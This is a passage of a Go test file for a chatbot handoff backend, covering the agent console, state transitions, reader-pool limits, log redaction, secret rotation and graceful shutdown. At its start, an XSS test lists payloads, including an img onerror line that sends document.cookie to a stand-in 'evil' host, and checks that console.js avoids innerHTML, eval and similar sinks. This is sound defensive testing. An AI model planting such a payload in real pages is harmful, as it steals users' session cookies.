		`<img src=x onerror="fetch('//evil/'+document.cookie)">`,
		`javascript:alert(1)`,
	}
	ts.handoff(t, sample("c1", payloads...))
	if code, _ := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": payloads[3]}); code != 200 {
		t.Fatalf("reply with markup: %d", code)
	}
	code, v := ts.console(t, "GET", "conversations/c1", nil)
	if code != 200 {
		t.Fatalf("transcript: %d", code)
	}
	msgs := v["messages"].([]any)
	want := append(payloads, payloads[3])
	if len(msgs) != len(want) {
		t.Fatalf("transcript has %d messages, want %d", len(msgs), len(want))
	}
	for i, m := range msgs {
		if got := m.(map[string]any)["text"]; got != want[i] {
			t.Errorf("message %d = %q, want %q", i, got, want[i])
		}
	}
	if _, err := ts.Store().Conversation(context.Background(), "c1"); err != nil {
		t.Errorf("tables damaged: %v", err)
	}
	// The page forbids inline script and never turns text into markup.
	res, err := ts.http.Get(ts.URL + "/console")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("console CSP %q", csp)
	}
	js, _ := consoleFiles.ReadFile("console/console.js")
	for _, sink := range []string{"innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("} {
		if bytes.Contains(js, []byte(sink)) {
			t.Errorf("console.js uses %s", sink)
		}
	}
}

func TestStateTransitionsHTTP(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "hi"))
	state := func() string {
		_, ev := ts.poll(t, "c1", 0, 0)
		return string(ev.State)
	}
	if s := state(); s != "pending" {
		t.Errorf("after handoff: %s", s)
	}
	if code, v := ts.console(t, "GET", "conversations?state=pending", nil); code != 200 || len(v["conversations"].([]any)) != 1 {
		t.Errorf("pending queue: %d %v", code, v)
	}
	if code, v := ts.console(t, "POST", "conversations/c1/assign", map[string]string{}); code != 200 || state() != "open" {
		t.Errorf("assign: %d %v, state %s", code, v, state())
	}
	if code, _ := ts.console(t, "POST", "conversations/c1/resolve", map[string]string{}); code != 200 || state() != "resolved" {
		t.Errorf("resolve: %d, state %s", code, state())
	}
	if code, _ := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "late"}); code != 409 {
		t.Errorf("reply to resolved: %d, want 409", code)
	}
	if code, _ := ts.console(t, "POST", "conversations/nope/resolve", map[string]string{}); code != 404 {
		t.Errorf("resolve unknown: %d, want 404", code)
	}
	if code, _ := ts.console(t, "GET", "conversations?state=weird", nil); code != 400 {
		t.Errorf("bad state filter: %d, want 400", code)
	}
}

// TestLogsCarryNoPersonalData posts personal data through every path and
// searches the captured debug-level log for it.
func TestLogsCarryNoPersonalData(t *testing.T) {
	ts := newTestServer(t)
	secrets := []string{"DE89370400440532013000", "anna.schmidt@example.com", "my secret question"}
	h := sample("c1", "my IBAN is DE89370400440532013000", "write to anna.schmidt@example.com", "my secret question")
	h.Reason = "personal_data"
	ts.handoff(t, h)
	ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "I will mail anna.schmidt@example.com"})
	body, _ := json.Marshal(sample("c2", "DE89370400440532013000"))
	ts.post(t, body, "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAA", time.Now()) // refused
	ts.post(t, []byte(`{"conversation_id":"c3","bot":"d","messages":[{"id":"m","role":"agent","text":"anna.schmidt@example.com"}]}`), testSecret, time.Now())
	logs := ts.logs.String()
	if !strings.Contains(logs, "handoff stored") {
		t.Fatalf("log lacks the handoff line, so this test proves nothing:\n%s", logs)
	}
	for _, s := range append(secrets, "c1") { // not even the conversation ID
		if strings.Contains(logs, s) {
			t.Errorf("log contains %q:\n%s", s, logs)
		}
	}
}

func TestUnansweredRedacted(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "what is the weather in Berlin"))
	ts.handoff(t, sample("c2", "hello", "What's the weather in Berlin?"))
	ts.handoff(t, sample("c3", "send it to anna.schmidt@example.com"))
	code, v := ts.console(t, "GET", "unanswered", nil)
	if code != 200 || v["questions"] != 3.0 {
		t.Fatalf("unanswered: %d %v", code, v)
	}
	out, _ := json.Marshal(v)
	if bytes.Contains(out, []byte("anna.schmidt")) || !bytes.Contains(out, []byte("[EMAIL]")) {
		t.Errorf("unanswered not redacted: %s", out)
	}
	g := v["groups"].([]any)[0].(map[string]any)
	if g["count"] != 2.0 {
		t.Errorf("first group = %v, want the two weather questions", g)
	}
}

// TestReadersPool checks one pool's bookkeeping: a key over its limit ends
// its oldest reader, the pool over its limit refuses, and a released
// reader frees its place.
func TestReadersPool(t *testing.T) {
	rs := newReaders("visitor", 3, 2)
	ended := map[string]bool{}
	acquire := func(key, name string) (*reader, bool) {
		return rs.acquire(key, func() { ended[name] = true })
	}
	steps := []struct {
		key, name string
		ok        bool
		ends      string // the reader this one ends, if any
		inUse     int
	}{
		{"c1", "a", true, "", 1},
		{"c1", "b", true, "", 2},
		{"c1", "c", true, "a", 2}, // c1 at its limit: a, the oldest, ends
		{"c2", "d", true, "", 3},
		{"c3", "e", false, "", 3}, // the pool is full
		{"c1", "f", true, "b", 3}, // a key at its limit still replaces its oldest
	}
	got := map[string]*reader{}
	for _, st := range steps {
		r, ok := acquire(st.key, st.name)
		if ok != st.ok {
			t.Fatalf("acquire %s for %s: ok %v, want %v", st.name, st.key, ok, st.ok)
		}
		got[st.name] = r
		if st.ends != "" && !ended[st.ends] {
			t.Errorf("acquire %s did not end %s", st.name, st.ends)
		}
		if u := rs.use(); u != (ReaderUse{st.inUse, 3}) {
			t.Errorf("after %s: use %+v, want %d of 3", st.name, u, st.inUse)
		}
	}
	rs.release("c1", got["a"]) // ended already: no change
	rs.release("c2", got["d"])
	if u := rs.use(); u.InUse != 2 {
		t.Errorf("after releasing d: %d in use, want 2", u.InUse)
	}
	if _, ok := acquire("c3", "g"); !ok {
		t.Error("a released place was not given to a new reader")
	}
}

// TestReadersRefusalsWarnOncePerMinute checks the rate limit of the
// warning about a full pool: the first refusal is logged at once, the
// ones after it with their number once a minute.
func TestReadersRefusalsWarnOncePerMinute(t *testing.T) {
	rs := newReaders("visitor", 0, 1) // refuses everyone
	t0 := time.Unix(1_800_000_000, 0)
	steps := []struct {
		refuse int           // readers refused before asking
		at     time.Duration // after t0
		n      int
		warn   bool
	}{
		{0, 0, 0, false}, // nothing refused, nothing to say
		{1, 0, 1, true},
		{3, 10 * time.Second, 0, false},
		{1, 59 * time.Second, 0, false},
		{0, 60 * time.Second, 4, true},
		{0, 3 * time.Minute, 0, false}, // no refusal since
		{2, 3 * time.Minute, 2, true},
	}
	for i, st := range steps {
		for range st.refuse {
			if _, ok := rs.acquire("c", func() {}); ok {
				t.Fatal("a pool of 0 took a reader")
			}
		}
		n, warn := rs.refusals(t0.Add(st.at))
		if n != st.n || warn != st.warn {
			t.Errorf("step %d at %v: refusals = %d, %v; want %d, %v", i, st.at, n, warn, st.n, st.warn)
		}
	}
}

// clock is a test clock that starts at the real time, so that the edge's
// signatures (made at the real time) stay within the tolerance.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) add(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

// waitFor polls cond until it holds, failing the test after 10 s.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); !cond(); time.Sleep(2 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
	}
}

// TestReadersFull fills the visitors' readers: health says degraded with
// the counts, a further reader gets 429 too_many_readers, the log says so
// once a minute with the number refused, and the console's streams, a
// pool of their own, are still served.
func TestReadersFull(t *testing.T) {
	clk := &clock{t: time.Now()}
	ts := newTestServer(t, func(c *Config) { c.MaxReaders = 2; c.Now = clk.now })
	ts.handoff(t, sample("c1", "help"))
	ts.handoff(t, sample("c2", "help"))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan struct{}, 2)
	for _, id := range []string{"c1", "c2"} {
		// Health is read before this reader starts: read after, it races
		// the reader's arrival and may see one more in use.
		if code, h := ts.health(t); code != 200 || h.Status != "ok" {
			t.Errorf("health with %d of 2 readers = %d %+v, want ok", h.Readers.InUse, code, h)
		}
		go func() {
			if res, err := ts.http.Do(ts.events(t, ctx, "/v1/conversations/"+id+"/events?after=1&wait=30")); err == nil {
				res.Body.Close()
			}
			done <- struct{}{}
		}()
		waitFor(t, "a reader of "+id, func() bool { return ts.readers.use().InUse == map[string]int{"c1": 1, "c2": 2}[id] })
	}
	if code, h := ts.health(t); code != 200 || h.Status != "degraded" || h.Readers != (ReaderUse{2, 2}) {
		t.Errorf("health with every reader in use = %d %+v, want 200 degraded, readers 2 of 2", code, h)
	}
	refuse := func() {
		t.Helper()
		res, err := ts.http.Do(ts.events(t, context.Background(), "/v1/conversations/c1/events?after=1&wait=0"))
		if err != nil {
			t.Fatal(err)
		}
		e, raw := decodeError(t, res)
		if res.StatusCode != 429 || e.Error.Code != "too_many_readers" || res.Header.Get("Retry-After") == "" ||
			!strings.Contains(e.Error.Message, "all 2 of the backend's visitor event readers") {
			t.Errorf("reader over the limit: %d %s, want 429 too_many_readers with Retry-After", res.StatusCode, raw)
		}
	}
	warnings := func() []map[string]any {
		var ws []map[string]any
		for line := range strings.Lines(ts.logs.String()) {
			var rec map[string]any
			if json.Unmarshal([]byte(line), &rec) == nil && rec["msg"] == "event readers refused: all in use" {
				ws = append(ws, rec)
			}
		}
		return ws
	}
	refuse()
	refuse()
	refuse()
	ws := warnings()
	if len(ws) != 1 || ws[0]["level"] != "WARN" || ws[0]["pool"] != "visitor" || ws[0]["refused"] != 1.0 ||
		ws[0]["in_use"] != 2.0 || ws[0]["max"] != 2.0 {
		t.Errorf("after three refusals within a minute, warnings %v; want one WARN, pool visitor, refused 1, in_use 2, max 2", ws)
	}
	clk.add(readersWarnInterval)
	refuse()
	if ws := warnings(); len(ws) != 2 || ws[1]["refused"] != 3.0 {
		t.Errorf("a minute later, warnings %v; want a second one counting the 3 refused since the first", ws)
	}
	// The console's pool is apart: agents still read.
	req, _ := http.NewRequest("GET", ts.URL+"/console/api/conversations/c1/events?after=1&wait=0", nil)
	req.Header.Set("Authorization", "Bearer "+testToken)
	if code, v := ts.do(t, req); code != 200 {
		t.Errorf("console events with the visitors' readers full: %d %v, want 200", code, v)
	}
	cancel()
	<-done
	<-done
	waitFor(t, "the readers to be released", func() bool { return ts.readers.use().InUse == 0 })
	if code, h := ts.health(t); code != 200 || h.Status != "ok" {
		t.Errorf("health after the readers left = %d %+v, want ok", code, h)
	}
}

// TestConsoleReadersPerSession checks that one agent session (here a
// script's bearer token from one address) holds at most
// maxReadersPerSession streams, the newest, and takes none of the
// visitors' readers.
func TestConsoleReadersPerSession(t *testing.T) {
	ts := newTestServer(t)
	for i := range maxReadersPerSession + 1 {
		ts.handoff(t, sample(fmt.Sprintf("c%d", i), "help"))
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan string, maxReadersPerSession+1)
	poll := func(id string) {
		req, _ := http.NewRequestWithContext(ctx, "GET", ts.URL+"/console/api/conversations/"+id+"/events?after=1&wait=30", nil)
		req.Header.Set("Authorization", "Bearer "+testToken)
		if res, err := ts.http.Do(req); err == nil {
			res.Body.Close()
		}
		done <- id
	}
	for i := range maxReadersPerSession {
		go poll(fmt.Sprintf("c%d", i))
		waitFor(t, "a console reader", func() bool { return ts.consoleReaders.use().InUse == i+1 })
	}
	go poll(fmt.Sprintf("c%d", maxReadersPerSession))
	select {
	case id := <-done:
		if id != "c0" {
			t.Errorf("the session's reader of %s ended, want the oldest, c0", id)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("a session over its limit ended no older reader")
	}
	if u, v := ts.consoleReaders.use(), ts.readers.use(); u.InUse != maxReadersPerSession || v.InUse != 0 {
		t.Errorf("console readers %+v, visitors' %+v; want %d and 0", u, v, maxReadersPerSession)
	}
}

// TestEndStreams checks a graceful shutdown: EndStreams ends an open SSE
// stream (the browser then resumes by Last-Event-ID) and answers a
// waiting long-poll at once with no events, and a stream asked for
// afterwards ends at once too.
func TestEndStreams(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "one"))
	openStream := func() *http.Response {
		req := ts.events(t, context.Background(), "/v1/conversations/c1/events")
		req.Header.Set("Accept", "text/event-stream")
		res, err := ts.http.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	res := openStream()
	defer res.Body.Close()
	r := bufio.NewReader(res.Body)
	readSSE(t, r, 2) // message 1 and the state
	polled := make(chan Events, 1)
	go func() {
		_, ev := ts.poll(t, "c1", 1, 30)
		polled <- ev
	}()
	waitFor(t, "the long-poll to wait", func() bool { return ts.readers.use().InUse == 2 })
	ts.EndStreams()
	if rest, err := readToEnd(t, res.Body, r); err != nil || strings.Contains(string(rest), "event:") {
		t.Errorf("stream after EndStreams: %q, %v; want its end and no more events", rest, err)
	}
	select {
	case ev := <-polled:
		if len(ev.Events) != 0 || ev.State != "pending" {
			t.Errorf("long-poll ended by EndStreams = %+v, want no events in state pending", ev)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("EndStreams left a long-poll waiting")
	}
	late := openStream()
	defer late.Body.Close()
	if body, err := readToEnd(t, late.Body, late.Body); err != nil || late.StatusCode != 200 || !strings.HasPrefix(string(body), "retry:") {
		t.Errorf("stream asked for after EndStreams: %d %q %v; want 200 ending at once", late.StatusCode, body, err)
	}
}

// readToEnd reads r to its end, failing the test if body (which r reads)
// has not ended within 10 s.
func readToEnd(t *testing.T, body io.Closer, r io.Reader) ([]byte, error) {
	t.Helper()
	timer := time.AfterFunc(10*time.Second, func() { body.Close() })
	data, err := io.ReadAll(r)
	if !timer.Stop() {
		t.Fatal("the stream did not end")
	}
	return data, err
}

// TestRotatedSecrets checks a rotation of the webhook secret: the backend
// with two secrets accepts handoffs and events requests signed with
// either, and no other.
func TestRotatedSecrets(t *testing.T) {
	const newSecret = "whsec_bmV3LXNlY3JldC1mb3ItdGhlLXJvdGF0aW9uLXRlc3Q="
	const otherSecret = "whsec_b3RoZXItc2VjcmV0LW5vdC1naXZlbi10by10aGUtYmFja2Vu"
	ts := newTestServer(t, func(c *Config) { c.Secret = testSecret + " " + newSecret })
	tests := []struct {
		name, secret string
		code         int
	}{
		{"old secret", testSecret, 200},
		{"new secret", newSecret, 200},
		{"other secret", otherSecret, 401},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body, _ := json.Marshal(sample(fmt.Sprintf("c%d", i), "help"))
			if code, v := ts.post(t, body, tt.secret, time.Now()); code != tt.code {
				t.Errorf("handoff signed with the %s: %d %v, want %d", tt.name, code, v, tt.code)
			}
			req, _ := http.NewRequest("GET", ts.URL+"/v1/conversations/c0/events?after=0&wait=0", nil)
			if err := handoff.SignRequest(handoff.SecretKey(tt.secret), req, "", time.Now()); err != nil {
				t.Fatal(err)
			}
			if code, v := ts.do(t, req); code != tt.code {
				t.Errorf("events request signed with the %s: %d %v, want %d", tt.name, code, v, tt.code)
			}
		})
	}
}

// TestReadyLogLine checks the start-up line: version, schema and limits,
// never a secret.
func TestReadyLogLine(t *testing.T) {
	ts := newTestServer(t, func(c *Config) { c.Version = "v1.2.3"; c.MaxReaders = 50 })
	logs := ts.logs.String()
	for _, want := range []string{`"msg":"backend ready"`, `"version":"v1.2.3"`, fmt.Sprintf(`"schema":%d`, store.SchemaVersion),
		`"max_readers":50`, `"webhook_secrets":1`} {
		if !strings.Contains(logs, want) {
			t.Errorf("start-up log %q lacks %s", logs, want)
		}
	}
	if strings.Contains(logs, testSecret[6:]) || strings.Contains(logs, testToken) {
		t.Errorf("start-up log %q shows a secret", logs)
	}
}
